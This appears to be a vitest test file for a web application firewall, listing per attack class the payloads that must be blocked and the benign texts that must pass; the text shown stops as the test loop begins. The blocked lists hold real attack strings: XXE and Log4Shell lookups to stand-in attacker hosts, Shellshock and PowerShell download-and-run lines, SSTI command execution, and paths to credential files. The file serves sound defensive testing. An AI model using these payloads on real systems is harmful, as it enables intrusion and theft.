// Managed rule classes added with the `header` target and the base64 / entity / concatenation
// canonicalisation steps: per class, hand-written attacks that paranoia level 1 must block with a
// rule of that class and realistic benign texts using the same words that it must pass; each new
// class's payload in every place a request carries input, plain and encoded; the `header` target's
// list of structured headers; and the fast path's promise for base64 carriers.
//
// Examples the first cut of the rules got wrong are kept in TUNED (asserted as wanted); known gaps
// are in KNOWN, asserted to still disagree, so the list of limits stays true.
import { describe, expect, it } from 'vitest';
import { base64Text, mayBeBase64Text } from '../../gateway/rules/managed/base64-text.ts';
import { isInert } from '../../gateway/rules/managed/prefilter.ts';
import { programFor } from '../../gateway/rules/managed/program.ts';
import { RULE_DEFINITIONS } from '../../schemas/managed-rules/catalogue.ts';
import { buildRequest } from '../fixtures/shield/build-request.ts';
import { CODE_INJECTION_TABLES } from '../fixtures/shield/code-injection-examples.ts';
import { COMMAND_INJECTION_TABLE } from '../fixtures/shield/cmdi-examples.ts';
import { SQLI_FORM_TABLE } from '../fixtures/shield/sqli-examples.ts';
import { SSRF_TABLES } from '../fixtures/shield/ssrf-examples.ts';
import { XSS_PROBE_TABLE } from '../fixtures/shield/xss-examples.ts';
import { INPUT_PLACES, PL1, describeExample, missReason, requestOf, specFor, type ClassTable, type Example, type Place } from '../fixtures/shield/rule-examples.ts';
import { seededRandom } from '../support/seeded-random.ts';

// --- per-class tables ----------------------------------------------------------------------------

const TABLES: readonly ClassTable[] = [
  ...CODE_INJECTION_TABLES,
  XSS_PROBE_TABLE,
  {
    name: 'ssti',
    expect: 'ssti.',
    place: 'query',
    blocked: [
      '{{7*7}}',
      '${7*7}',
      '#{7*7}',
      '*{7*7}',
      '<%= 7*7 %>',
      "{{7*'7'}}",
      "{{'a'.toUpperCase()}}",
      { in: 'form', text: "{{ ''.__class__.__mro__[1].__subclasses__() }}" },
      { in: 'json', text: "{{ lipsum.__globals__['os'].popen('id').read() }}" },
      "${T(java.lang.Runtime).getRuntime().exec('id')}",
      '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
      '#set($x = $e.getClass().forName("java.lang.Runtime"))',
      '{{_self.env.registerUndefinedFilterCallback("exec")}}',
      '{php}echo `id`;{/php}',
      "{system('id')}",
    ],
    passed: [
      '{{ user.name }}',
      'Hello {{ name }}, your order {{ order.id }} has shipped',
      'Use {% for item in items %}{{ item }}{% endfor %} to loop over a list',
      'The total is ${price} (7 * 7 = 49)',
      'Price: $7 * 7 = $49',
      '<%= render partial: "form" %>',
      '#{user.firstName}',
      'Rate {{ 4.5 }} stars',
      "{{ 'Hello'|upper }}",
      "{{ 'now'|date('Y') }}",
      "{{ '{:,}'.format(price) }}",
    ],
  },
  {
    name: 'nosqli',
    expect: 'nosqli.',
    place: 'query',
    blocked: [
      { label: 'query names user[$ne]= / password[$ne]=', spec: { path: '/login', query: 'username%5B%24ne%5D=x&password%5B%24ne%5D=x' } },
      { label: 'form names login[$regex]= / pass[$ne]=', spec: { path: '/login', form: 'login%5B%24regex%5D=a.*&pass%5B%24ne%5D=1' } },
      { label: 'form name user[$nin][]=', spec: { path: '/login', form: 'user%5B%24nin%5D%5B%5D=admin' } },
      { label: 'JSON {"password": {"$ne": null}}', spec: { path: '/api/login', json: '{"username":"admin","password":{"$ne":null}}' } },
      { label: 'JSON {"username": {"$gt": ""}}', spec: { path: '/api/login', json: '{"username":{"$gt":""},"password":{"$gt":""}}' } },
      { label: 'JSON top-level $where', spec: { path: '/api/search', json: '{"$where":"sleep(100)"}' } },
      '{"$ne": null}',
      "', $or: [ {}, {'a':'a",
      "true, $where: '1 == 1'",
      'u_id[$ne]',
      '[$lte]asdfsd',
      '{"username": {"$regex": "^adm"}}',
      '0;var date=new Date(); do{curDate = new Date();}while(curDate-date<10000)',
      'db.users.find({})',
      "admin' && this.password.match(/.*/)//",
    ],
    passed: [
      '$5 off your first order',
      'Save $10: use code SPRING',
      'Buy now: $20, or $15 each for 2+',
      'The $or operator in MongoDB selects documents matching any clause',
      'the $gt and $lt operators compare values',
      '{"name": "Jane", "age": 30}',
      'Price in US$: 12.50',
      { label: 'query names price[gte]= / price[lte]=', spec: { path: '/products', query: 'price%5Bgte%5D=10&price%5Blte%5D=50' } },
      { label: 'JSON filters without operators', spec: { path: '/api/products', json: '{"filters":{"price":{"min":10,"max":50}},"sort":"price"}' } },
    ],
  },
  {
    name: 'ldap',
    expect: 'ldap.',
    place: 'query',
    blocked: [
      '*)(uid=*))(|(uid=*',
      'admin)(|(password=*)',
      '*)(objectClass=*',
      '(|(uid=*)(cn=*))',
      { in: 'form', text: '(&(objectClass=user)(sAMAccountName=*))' },
      'userPassword:2.5.13.18:=secret',
      'cn:dn:2.5.13.5:=john',
      'x))(&(uid=admin',
      { in: 'json', text: '*)(|(mail=*)' },
      '(!(cn=guest))',
      'jdoe)(|(objectclass=*)',
      { in: 'header', text: ')(cn=))' },
      // A whole assertion added after the application's (gotestwaf's, split by an unencoded &).
      { in: 'form', text: '0)(userPassword=q))))' },
      { in: 'multipart', text: 'x)(cn=admin)' },
    ],
    passed: [
      ')(',
      ') (see above) (x = 1)',
      'if (!(a == b)) {}',
      '(a|b)',
      '(see note (a))',
      'Call me on (555) 123-4567',
      'f(x) = (x+1)*(x-1)',
      'while (!(done)) { step(); }',
      'Regex (?!foo)(bar)',
      'Options: (a|b|c) or (d&e)',
      'Meeting (room=4B) at 10',
      'Sales (EU)(region=north)',
      'see note 3)(a=b) below',
    ],
  },
  {
    name: 'xxe',
    expect: 'xxe.',
    place: 'body',
    blocked: [
      '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "http://attacker.example/x">]><foo>&xxe;</foo>',
      '<?xml version="1.0"?><!DOCTYPE data SYSTEM "http://attacker.example/evil.dtd"><data>1</data>',
      '<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://x.example/p.dtd"> %remote;]><r/>',
      '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]><lolz>&lol2;</lolz>',
      '<root xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="secret.txt"/></root>',
      '<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:include schemaLocation="http://attacker.example/s.xsd"/></xs:schema>',
      '<?xml-stylesheet type="text/xsl" href="http://attacker.example/s.xsl"?><doc/>',
      '<?xml version="1.0" encoding="UTF-7"?>+ADw-foo+AD4-',
      '<!DOCTYPE foo PUBLIC "-//X//EN" "http://x.example/foo.dtd"><foo/>',
      { in: 'query', text: '<!DOCTYPE d [<!ENTITY e SYSTEM "http://attacker.example/e">]><d>&e;</d>' },
    ],
    passed: [
      '<?xml version="1.0" encoding="UTF-8"?><order><id>42</id><note>Ring twice</note></order>',
      '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetPrice><Item>Apples</Item></GetPrice></soap:Body></soap:Envelope>',
      '<!DOCTYPE html><html><body>Hi</body></html>',
      '<feed xmlns="http://www.w3.org/2005/Atom"><title>News</title></feed>',
      '<project xmlns="http://maven.apache.org/POM/4.0.0" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 https://maven.apache.org/xsd/maven-4.0.0.xsd"><modelVersion>4.0.0</modelVersion></project>',
      'The DOCTYPE declaration tells the browser which HTML version to use',
      '<!-- ENTITY list below --><entities><entity name="Acme"/></entities>',
      '<?xml version="1.0"?><?xml-stylesheet type="text/css" href="style.css"?><doc/>',
    ],
  },
  {
    name: 'crlf',
    expect: 'crlf.',
    place: 'query',
    blocked: [
      '\r\nSet-Cookie: sid=attacker',
      '%0d%0aLocation: https://evil.example/',
      '/account\r\nLocation: //evil.example',
      'en\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK',
      'x\u560d\u560aSet-Cookie: a=b',
      'page\nX-XSS-Protection: 0',
      'foo%0aHTTP/1.1 200 OK',
      '%250d%250aSet-Cookie:%20admin=1',
      '\r\nAccess-Control-Allow-Origin: *',
      'x\rRefresh: 0; url=https://evil.example/',
      { in: 'header', text: 'shop.example\r\nSet-Cookie: sid=attacker' },
      { label: 'path /redirect%0d%0aLocation:', spec: { path: '/redirect%0d%0aLocation:%20https://evil.example/' } },
      // A break encoded three times or more (every hop of a redirect chain decodes once).
      '/%25250aSet-Cookie:crlf=injection',
    ],
    passed: [
      'Line one\nLine two',
      'Note: call before delivery\nThanks',
      'Dear team,\nLocation of the meeting is room 4',
      'Items:\n- apples\n- pears',
      'Cache-Control explained: no-store means never cache',
      'Address:\n12 Main St\nLink to map below',
      'Hi,\nplease set the cookie banner to dark mode',
      'Status: shipped\nTracking: 1Z999',
      'Steps\n1. Open Settings\n2. Tap Location: allow',
    ],
  },
  ...SSRF_TABLES,
  {
    name: 'mail',
    expect: 'mail.',
    place: 'form',
    blocked: [
      'test@example.com\nBcc: victim@example.org',
      'Hello\r\nCc: a@evil.example',
      'x\r\nRCPT TO:<victim@example.org>',
      '\r\nMAIL FROM:<a@b.example>',
      '\r\nQUIT',
      '\r\nDATA',
      'x\r\nA1 FETCH 1:* (BODY[])',
      'INBOX\r\nV100 CAPABILITY',
      'INBOX\r\na002 LOGIN admin secret',
      // Commands named by everyday words, known by their arguments.
      '\r\na002 COPY 2:4 MEETING',
      'INBOX\r\nd STORE 2 +FLAGS (\\Deleted)',
      '\r\nA282 SEARCH FLAGGED SINCE 1-Feb-1994 NOT FROM "Smith"',
      '\r\nA1 LIST "INBOX/" "*"',
      { in: 'json', text: '\r\nZ001 SEARCH CHARSET UTF-8 TEXT {6}' },
      '\nTo: someone@victim.example',
      'Subject\r\nHELO attacker.example\r\n',
      'me@example.com%0aReply-To: attacker@evil.example',
    ],
    passed: [
      'Subject: meeting notes\nSee you at 10',
      'To be or not to be',
      'To: the team\nPlease review the draft',
      'From: Jane\nRe: the quarterly report',
      'Contact me at jane@example.com',
      'Notes\nCC: finance department',
      'Send to: Jane Doe (no e-mail yet)',
      'Hi\nPlease send the invoice to billing, not to me',
      'Quit smoking\nData shows it helps',
      'Thanks,\nJane\njane@example.com',
      'Agenda:\nA1 list of items\nB2 copy 3 pages\nC3 search new homes',
      'Step 1\n2 copy 2 files to the drive',
      'Notes\n1 search since 2 days ago',
    ],
  },
  {
    name: 'log4shell',
    expect: 'cmdi.jndi_lookup',
    place: 'header',
    blocked: [
      '${jndi:ldap://attacker.example/a}',
      '${${lower:j}ndi:${lower:l}dap://x}',
      '${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/o}',
      '${jndi:dns://x.example}',
      '${${upper:j}ndi:ldaps://x.example/a}',
      '${${env:NaN:-j}ndi${env:NaN:-:}ldap://x.example/a}',
      '${jndi:${lower:l}${lower:d}a${lower:p}://x}',
      '${${lower:jnd}${lower:i}:iiop://x.example/a}',
      { in: 'query', text: '%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D' },
      { in: 'user_agent', text: 'Mozilla/5.0 ${jndi:ldap://x.example/ua}' },
      { in: 'referer', text: 'https://shop.example/?q=${jndi:rmi://x.example/r}' },
      { in: 'json', text: 'jndi:rmi://x.example:1099/obj' },
    ],
    passed: [
      '${HOME}',
      'Total: ${total}',
      'JNDI lookup tutorial for Tomcat',
      'java:comp/env/jdbc/mydb',
      '${user.name}',
      'Price ${price:-0}',
      'log4j 2.17 fixes CVE-2021-44228',
      'Use ${project.version} in the POM',
      'echo ${PATH}',
    ],
  },
  {
    name: 'shellshock',
    expect: 'cmdi.shellshock',
    place: 'header',
    blocked: [
      '() { :; }; echo vulnerable',
      '() { _; } >_[$($())] { id; }',
      '() { :;}; /bin/bash -c "cat /etc/passwd"',
      '() {:;}; wget http://x.example/s',
      '() { ignored; }; /bin/id',
      { in: 'user_agent', text: '() { :; }; ping -c 1 x.example' },
      { in: 'referer', text: '() { :; }; echo hi' },
      { label: 'cookie () { :; };', spec: { path: '/', headers: { cookie: 'session=() { :; }; /bin/uname -a' } } },
    ],
    passed: [
      '() => { return 1; }',
      'f() {return x;}',
      'MyApp/3.2 (build 41; iOS 17.4)',
      'smile :-) {see below}',
      'Call sort() { ascending }',
      '() is an empty tuple',
    ],
  },
  {
    name: 'ssi',
    expect: 'cmdi.ssi_directive',
    place: 'form',
    blocked: [
      '<!--#exec cmd="id"-->',
      '<!--#include virtual="/etc/passwd"-->',
      '<!--#echo var="DATE_LOCAL"-->',
      '<!--#printenv -->',
      '<!-- #config errmsg="x" -->',
      '&lt;!--#exec cmd=&quot;ls&quot;--&gt;',
      '%3C!--%23exec%20cmd%3D%22id%22--%3E',
      '<!--#fsize file="index.html"-->',
      { in: 'header', text: '<!--#flastmod virtual="/index.html" -->' },
    ],
    passed: [
      '<!-- main navigation -->',
      '<!-- #header section -->',
      '<!-- TODO: include footer -->',
      'Use #include <stdio.h> in C',
      '<!--[if IE]><p>Old browser</p><![endif]-->',
      '#echo is a shell builtin',
      '<!-- exec summary below -->',
    ],
  },
  COMMAND_INJECTION_TABLE,
  {
    name: 'path traversal / LFI',
    expect: 'traversal.',
    place: 'query',
    blocked: [
      '\\\\fileserver01\\c$\\windows\\',
      '/..%c0%2f..%c0%2fetc/passwd',
      '..2fetc2fpasswd',
      '/..0x2f',
      '/Program Files\\Apache Group\\Apache\\logs\\access.log',
      'C:/logs/httpd/access_log',
      'c:\\System32\\Inetsrv\\metabase.xml',
      'C:/users/administrator/ntuser.dat',
      '/Volumes/Macintosh_HD1/opt/apache2/conf/httpd.conf',
      '/var/log',
      { label: 'User-Agent: cat /root/.ssh/id_rsa', spec: { path: '/', headers: { 'user-agent': 'cat /root/.ssh/id_rsa' } } },
      { label: 'User-Agent: /proc/self/environ', spec: { path: '/', headers: { 'user-agent': '/proc/self/environ' } } },
      { label: 'path /.claude/settings.json', spec: { path: '/.claude/settings.json' } },
      { label: 'path /wp-content/debug.log', spec: { path: '/wp-content/debug.log' } },
      'url:file:///etc/services',
      'local_file:///etc/passwd',
      '\\\\?\\C:\\Windows\\System32\\config\\SAM',
      '\\\\.\\pipe\\spoolss',
      'php://filter/convert.base64-encode/resource=index.php',
      'phar://uploads/avatar.jpg/x',
      'expect://id',
      'data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+',
      'jar:file:///tmp/x.zip!/a',
      'zip://shell.jpg%23payload.php',
      '..%252f..%252f..%252fboot.ini',
      '%252e%252e%255c%252e%252e%255csecret.txt',
      '%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd',
      '..%u2216..%u2216app.config',
      '....//....//etc/passwd',
      '..\\..\\..\\windows\\win.ini',
      '/var/www/../../etc/shadow',
      '..;/..;/WEB-INF/web.xml',
      '%2e%2e%2f%2e%2e%2fconfig',
      'file:///proc/self/environ',
      // Absolute paths to server and OS configuration and logs, in every Windows form.
      'C:\\xampp\\apache\\conf\\httpd.conf',
      'c:\\Program Files\\Apache Group\\Apache\\logs\\access.log',
      '\\apache2\\logs\\error_log',
      '/apache\\php\\php.ini',
      '/C:/inetpub/ftproot/',
      '/var/www/logs/error_log',
      '/usr/local/apache2/conf/httpd.conf',
      // Parent-directory steps as decoders mangle them.
      '..2f..2f..2fetc2fpasswd',
      '/0x2e0x2e0x2f',
      '/..%uEFC8..%uEFC8..%uEFC8',
      '..2fapache2flogs2ferror.log',
      { in: 'header', text: '0x5c0x2e.%00/' },
      // Runs of dots as a segment, current-directory padding with both slashes, shell dotfiles by path.
      '/.../.../.../',
      '/./\\/././\\/./',
      '/.\\/\\.\\',
      '/.bashrc',
      'home/bob/.ssh/authorized_keys',
      // System directories beyond /etc: cron and spool logs, libraries, ports trees.
      '/var/cron/log',
      { in: 'form', text: '/usr/lib/security/mkuser.default' },
      { in: 'json', text: '/usr/spool/mqueue/syslog' },
      { in: 'multipart', text: '/usr/local/pureftpd/etc/pureftpd.pdb' },
      // Credential files by path alone.
      '.ssh/id_rsa',
      { in: 'json', text: '/home/jane/.aws/credentials' },
      { in: 'header', text: '/.netrc' },
      '/.Xauthority',
      // A web server's logs, log poisoning's target, and Windows' system directory written drive-relative.
      '/logs/access.log',
      { in: 'form', text: '/usr/local/apache/logs/access. log' },
      { in: 'json', text: 'C:\\wamp\\logs\\access.log' },
      { in: 'multipart', text: 'c:WINDOWS/system32/' },
      // An FTP daemon's log, PHP's session files, a copy of wp-config.php.
      '/logs/pure-ftpd.log',
      { in: 'form', text: '/tmp/sess_<sessid>' },
      { in: 'json', text: '/srv/app/sessions/sess_4f2a9c' },
      { in: 'header', text: 'wp-config-php.bak' },
    ],
    passed: [
      'logs/access.log',
      'access.log',
      '/dm-app/error_log',
      '.bash_profile',
      '~/.bashrc',
      'colour 0x2e 0x2f',
      'version 1.0x2e.5/',
      'rev 2f..2g',
      './',
      '.\\/',
      'a/./b\\c',
      '/shop-app/logs/debug',
      '/shop-app/error_log',
      'C:\\fakepath\\holiday.jpg',
      'C:\\Users\\Public\\Documents\\report.docx',
      'Chapter 1... continued',
      'See https://example.com/docs/php/filter',
      'the data: 42',
      '\\\\server\\share\\reports\\q1.xlsx',
      'zip code 12345',
      'Loading.../please wait',
      '/usr/share/doc/readme',
      'Wait... what?',
      'Use the data URI scheme for small icons',
      'phar files are PHP archives',
      '/app/logs/error.log',
      '/var/logs/*',
      '/tmp/session.txt',
      '/home/me/sessions/notes.txt',
      'sess_abc',
      'wp-config-sample',
      { label: 'a browser User-Agent', spec: { path: '/', headers: { 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36' } } },
      { label: 'path /blog/claude-and-cursor-compared', spec: { path: '/blog/claude-and-cursor-compared' } },
      'C:\\Users\\me\\Documents\\access_log.xlsx',
      // Web roots, homes and project trees are what file managers show.
      '/var/www/example.com/htdocs/index.html',
      '/srv/projects/shop-app/README.md',
      '/home/jane/photos/2024',
      '/usr/lib and /usr/share explained',
      '.env.development',
      'how to set up .ssh/id_rsa keys',
    ],
  },
  SQLI_FORM_TABLE,
  {
    name: 'deserialization',
    expect: 'cmdi.deserialization',
    place: 'json',
    blocked: [
      '!!python/object/apply:os.system ["id"]',
      '!!ruby/object:Gem::Installer',
      '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x.example/"]]]]',
      '!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: "rmi://x.example/o", autoCommit: true}',
      '!!org.springframework.context.support.FileSystemXmlApplicationContext ["http://x.example/a.xml"]',
      'tag:yaml.org,2002:python/object/apply:subprocess.check_output',
      'O:8:"stdClass":1:{s:1:"a";s:1:"b";}',
      'a:1:{i:0;O:10:"Monolog\\Foo":0:{}}',
      'O:24:"GuzzleHttp\\Psr7\\FnStream":1:{s:9:"_fn_close";s:7:"phpinfo";}',
    ],
    passed: [
      'Wow!! Python/Django meetup tonight',
      '!!important',
      'key: !!str 123',
      'Score O:3 vs X:2',
      'a:2:{i:0;s:3:"foo";i:1;s:3:"bar";}',
      'rO0m is not a word',
      'Ratio O:8 to 1',
    ],
  },
  {
    name: 'prototype pollution',
    expect: 'xss.prototype_pollution',
    place: 'query',
    blocked: [
      'x.__proto__.polluted=1',
      '__proto__.toString=alert',
      '__proto__[admin]=1',
      "_c.constructor('alert(1)')()",
      'constructor["prototype"]["x"]=1',
      "a.constructor['prototype'].b=1",
      'obj.constructor.prototype.isAdmin = true',
      "'x'.constructor.prototype.polluted='yes'",
      { in: 'json', text: '__proto__[isAdmin]=true' },
    ],
    passed: [
      'The constructor of the class sets defaults',
      'Object.prototype.hasOwnProperty.call(obj, key)',
      '__proto__ is deprecated in favour of Object.getPrototypeOf',
      'MyClass.prototype.render = function () {}',
      'proto buffers constructor',
      { label: 'JSON keys prototype / constructor with plain values', spec: { path: '/api/projects', json: '{"prototype":"v2","constructor":"Acme Builders"}' } },
    ],
  },
  {
    name: 'oast hosts',
    expect: 'protocol.oast_callback',
    place: 'query',
    blocked: [
      'http://abc123xyz.oastify.com',
      'https://c2v3example1.oast.fun/x',
      '<img src="http://q1w2e3r4.bxss.me/i">',
      'http://u4i5o6p7.requestrepo.com/',
      '${jndi:ldap://abcdef123.oast.pro/a}',
      ';nslookup abcdef.burpcollaborator.net',
      { in: 'referer', text: 'https://qwerty123.oastify.com/' },
      { in: 'json', text: 'https://zxcvbn987.interact.sh/callback' },
    ],
    passed: [
      'https://oast.me',
      'We use Burp Collaborator for testing',
      'interact.sh is a tool',
      'https://canarytokens.com/generate',
      'www.example.com',
      'my-shop.oastify-partners.com',
      'dnslog is a DNS logging service',
      'Read https://portswigger.net/burp/documentation/collaborator',
    ],
  },
  {
    // Each text is the value as the application reads it (decoded once): what is still encoded in it
    // was encoded twice on the wire.
    name: 'characters that need no encoding, encoded twice',
    expect: 'protocol.encoded_unreserved',
    place: 'query',
    blocked: [
      '%2e%68%74%61%63%63%65%73%73',
      '%2e%2f%2e%2f%2e%68%74%61%63%63%65%73%73',
      '%%32%65%%36%38%%37%34%%36%31',
      '<a href="http://%77%77%77%2e%67%6f%6f%67%6c%65%2e%63%6f%6d">x</a>',
      '%61%64%6d%69%6e',
      { in: 'form', text: '%2e%68%74%61%63%63%65%73%73' },
      { in: 'json', text: '%25%36%38%25%37%34%25%37%34' },
      { in: 'multipart', text: '%77%70%2d%63%6f%6e%66%69%67' },
      { in: 'xml', text: '%2e%68%74%61%63%63%65%73%73' },
    ],
    passed: [
      '100%25 off',
      '%E2%80%99 is a right single quote',
      'https://example.com/a%20b%E2%80%99c?q=%3Cb%3E',
      '50%2F50',
      '%68 alone',
      'discount%40shop.example',
      'chapter %31%32 of the draft',
      { in: 'json', text: 'https://example.com/search?q=caf%C3%A9%20cr%C3%A8me' },
    ],
  },
  {
    name: 'scanner user agents',
    expect: 'protocol.scanner_user_agent',
    place: 'user_agent',
    blocked: [
      'sqlmap/1.7.2#stable (https://sqlmap.org)',
      'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)',
      'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
      'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
      'Fuzz Faster U Fool v2.1.0',
      'WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)',
      'gobuster/3.6',
      'Wfuzz/3.1.0',
      'masscan/1.3 (https://github.com/robertdavidgraham/masscan)',
      'commix/v3.8 (https://commixproject.com)',
    ],
    passed: [
      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36',
      'Mozilla/5.0 (Macintosh; Intel Mac OS X 14.4; rv:125.0) Gecko/20100101 Firefox/125.0',
      'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1',
      'curl/8.4.0',
      'python-requests/2.31.0',
      'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
      'okhttp/4.12.0',
      'HydraBrowser/1.0 (Linux)',
    ],
  },
];

/**
 * Examples the rules currently get wrong, reported to the rule authors; not asserted. `fired` is
 * the level-1 decision at the time of writing ('none' for a miss).
 */
interface Disagreement {
  table: string;
  want: 'blocked' | 'passed';
  example: Example;
  fired: string;
  why: string;
}

/** Examples that disagreed with the first cut of the rules and were tuned: asserted as wanted. */
const TUNED: readonly Omit<Disagreement, 'fired' | 'why'>[] = [
  { table: 'ssti', want: 'passed', example: 'How does __init__() work in Python?' },
  { table: 'ldap', want: 'passed', example: 'Thanks :) (ref=ABC123)' },
  { table: 'ldap', want: 'passed', example: 'if (!(fd = open(path))) return -1;' },
  { table: 'crlf', want: 'passed', example: 'Incident report\nServer: db-01\nStatus: down since 09:00' },
  { table: 'crlf', want: 'passed', example: 'Venue: Town hall\nHost: Maria' },
  { table: 'crlf', want: 'blocked', example: 'x\u010d\u010aContent-Type: text/html' },
  { table: 'mail', want: 'passed', example: 'Bin locations:\nA12 store overflow pallets here\nB3 returns' },
  { table: 'log4shell', want: 'blocked', example: '${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x.example/a}' },
  { table: 'log4shell', want: 'passed', example: 'Range: ${lowerBound} to ${upperBound}' },
  { table: 'path traversal / LFI', want: 'blocked', example: '\\\\10.0.0.5\\ADMIN$\\system32' },
  { table: 'path traversal / LFI', want: 'blocked', example: '\\\\dc01\\IPC$' },
  { table: 'path traversal / LFI', want: 'blocked', example: '//10.0.0.5/admin$/' },
  { table: 'prototype pollution', want: 'blocked', example: { label: 'query name __proto__[isAdmin]=', spec: { path: '/settings', query: '__proto__%5BisAdmin%5D=true' } } },
  { table: 'prototype pollution', want: 'blocked', example: { label: 'JSON key __proto__ (name __proto__.isAdmin)', spec: { path: '/api/settings', json: '{"__proto__":{"isAdmin":true}}' } } },
  { table: 'prototype pollution', want: 'blocked', example: { label: 'JSON keys a.constructor.prototype', spec: { path: '/api/settings', json: '{"a":{"constructor":{"prototype":{"isAdmin":true}}}}' } } },
  { table: 'prototype pollution', want: 'blocked', example: { label: 'query name a[__proto__][b]=', spec: { path: '/settings', query: 'a%5B__proto__%5D%5Bb%5D=1' } } },
  { table: 'prototype pollution', want: 'blocked', example: { label: 'query name constructor[prototype][isAdmin]=', spec: { path: '/settings', query: 'constructor%5Bprototype%5D%5BisAdmin%5D=true' } } },
  { table: 'prototype pollution', want: 'blocked', example: '{"__proto__": {"isAdmin": true}}' },
  { table: 'oast hosts', want: 'blocked', example: 'abcdefgh12.interact.sh' },
  { table: 'oast hosts', want: 'blocked', example: 'x7y8z9w0.dnslog.cn' },
  { table: 'oast hosts', want: 'blocked', example: 'nslookup abcdef.burpcollaborator.net' },
  { table: 'oast hosts', want: 'blocked', example: { in: 'header', text: 'abcdef1234567890.oast.me' } },
  { table: 'sqli in forms', want: 'blocked', example: { label: "X-Forwarded-For: user:p'or'1=1", spec: { headers: { 'x-forwarded-for': "user:p'or'1=1" } } } },
  { table: 'command injection', want: 'blocked', example: `powershell -nop -c "IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')"` },
];

/** Known gaps, not fixed yet: asserted to still disagree, so the list stays true. */
const KNOWN: readonly Disagreement[] = [];

/** What an attack can still say with the characters the fast path calls inert (prefilter.ts). */
const squeeze = (text: string): string => text.replace(/[^A-Za-z0-9 _.,@#!?[\]-]/g, ' ');

/** Texts that once slipped through the fast path although a rule matches them: now trigger words (prefilter.ts). */
const ONCE_INERT: readonly { text: string; fired: string }[] = [
  { text: 'Override __str__ and __init__ in your class', fired: 'ssti.object_traversal' },
  { text: squeeze('How does __init__() work in Python?'), fired: 'ssti.object_traversal' },
  { text: squeeze("{{ lipsum.__globals__['os'].popen('id').read() }}"), fired: 'ssti.object_traversal' },
  { text: squeeze('<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}'), fired: 'ssti.command_directive' },
  { text: squeeze('{{_self.env.registerUndefinedFilterCallback("exec")}}'), fired: 'ssti.command_directive' },
  { text: squeeze('!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x.example/"]]]]'), fired: 'cmdi.deserialization' },
  { text: squeeze('!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: "rmi://x.example/o", autoCommit: true}'), fired: 'cmdi.deserialization' },
  { text: squeeze('!!org.springframework.context.support.FileSystemXmlApplicationContext ["http://x.example/a.xml"]'), fired: 'cmdi.deserialization' },
  { text: squeeze('rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA=='), fired: 'java.serialized_base64' },
  { text: '__proto__[isAdmin]', fired: 'xss.prototype_pollution' },
  { text: '__proto__.isAdmin', fired: 'xss.prototype_pollution' },
  { text: 'a.constructor.prototype.isAdmin', fired: 'xss.prototype_pollution' },
  { text: squeeze('x.__proto__.polluted=1'), fired: 'xss.prototype_pollution' },
  { text: squeeze('__proto__.toString=alert'), fired: 'xss.prototype_pollution' },
  { text: squeeze('__proto__[admin]=1'), fired: 'xss.prototype_pollution' },
  { text: squeeze('obj.constructor.prototype.isAdmin = true'), fired: 'xss.prototype_pollution' },
  { text: squeeze("'x'.constructor.prototype.polluted='yes'"), fired: 'xss.prototype_pollution' },
  { text: squeeze('__proto__[isAdmin]=true'), fired: 'xss.prototype_pollution' },
  { text: 'abcdefgh12.interact.sh', fired: 'protocol.oast_callback' },
  { text: 'x7y8z9w0.dnslog.cn', fired: 'protocol.oast_callback' },
  { text: 'nslookup abcdef.burpcollaborator.net', fired: 'protocol.oast_callback' },
  { text: 'abcdef1234567890.oast.me', fired: 'protocol.oast_callback' },
  { text: squeeze('http://abc123xyz.oastify.com'), fired: 'protocol.oast_callback' },
  { text: squeeze('https://c2v3example1.oast.fun/x'), fired: 'protocol.oast_callback' },
  { text: squeeze('<img src="http://q1w2e3r4.bxss.me/i">'), fired: 'protocol.oast_callback' },
  { text: squeeze('http://u4i5o6p7.requestrepo.com/'), fired: 'protocol.oast_callback' },
  { text: squeeze('${jndi:ldap://abcdef123.oast.pro/a}'), fired: 'protocol.oast_callback' },
  { text: squeeze(';nslookup abcdef.burpcollaborator.net'), fired: 'protocol.oast_callback' },
  { text: squeeze('https://qwerty123.oastify.com/'), fired: 'protocol.oast_callback' },
  { text: squeeze('https://zxcvbn987.interact.sh/callback'), fired: 'protocol.oast_callback' },
];

/**
 * Attacks too short to be recognised as base64: 5 bytes make 7 characters unpadded, below
 * base64-text.ts's minimum of 8 (padded, the same bytes make 8 and are decoded); 3 bytes make 4.
 */
const KNOWN_SHORT_CARRIERS: readonly string[] = ['1`id`', '$a(1)', ';id\\n', '&lt', ';ps'];

describe('rule classes at paranoia level 1', () => {
  for (const table of TABLES) {
    describe(table.name, () => {
